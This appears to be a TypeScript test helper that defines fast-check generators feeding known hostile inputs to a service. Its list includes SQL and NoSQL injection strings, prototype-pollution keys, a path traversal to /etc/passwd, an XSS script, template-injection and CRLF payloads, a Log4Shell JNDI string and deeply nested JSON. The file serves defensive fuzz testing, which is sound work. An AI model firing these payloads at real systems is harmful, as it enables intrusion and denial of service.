import fc from 'fast-check';

/** Texts that have broken other services. */
const hostileTexts = [
  "' OR 1=1 --",
  '{"$gt": ""}',
  '$where',
  'a.b.$[]',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '{{ 7 * 7 }}{% for i in range(99999999) %}{% endfor %}',
  '%00%2e%2e%2f',
  '\u0000',
  '\u202eright to left',
  '\r\nset-cookie: a=b',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what others would fill in
  '${jndi:ldap://example.com/a}',
  '=HYPERLINK("http://example.com")',
  '\ud83d\udc69\u200d\ud83d\ude80',
  'e\u0301',
  '\ufeff',
  'NaN',
  '-0',
  '2026-13-45T99:99:99Z',
  '((a+)+)+$',
];

export const hostileText = fc.constantFrom(...hostileTexts);

/** Any text: plain, of all of Unicode, or hostile. */
export const anyText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 2, arbitrary: hostileText },
);

/** Any JSON value, with hostile keys. */
const { value: anyValue } = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    anyText,
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(anyText, tie('value'), { maxKeys: 3 }),
  ),
}));

/** An object whose meaning is the client's. */
export const anyObject = fc.dictionary(anyText, anyValue, { maxKeys: 4 }) as fc.Arbitrary<
  Record<string, unknown>
>;

/**
 * JSON texts that stand in place of a value: most are of a wrong type somewhere, some only in one
 * kind of place.
 */
export const wrongJson = fc.oneof(
  fc.constantFrom(
    'null',
    'true',
    '0',
    '-1',
    '0.5',
    '1e400',
    '-1e308',
    '12345678901234567890123',
    '""',
    '" "',
    '[]',
    '{}',
    '[[]]',
    '[null]',
    '"\\ud800"',
    '"a\\udc00b"',
    '"\\u0000"',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"a":1}}}',
    '{"$gt":""}',
    '{"length":-1}',
  ),
  fc.constantFrom(60, 600).map((levels) => `${'['.repeat(levels)}${']'.repeat(levels)}`),
  fc.constantFrom(60, 600).map((levels) => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`),
  fc.constantFrom(257, 10_001, 300_000).map((length) => JSON.stringify('x'.repeat(length))),
  fc.constantFrom(257, 10_001).map((length) => `[${'1,'.repeat(length)}1]`),
  anyText.map((text) => JSON.stringify(text)),
);
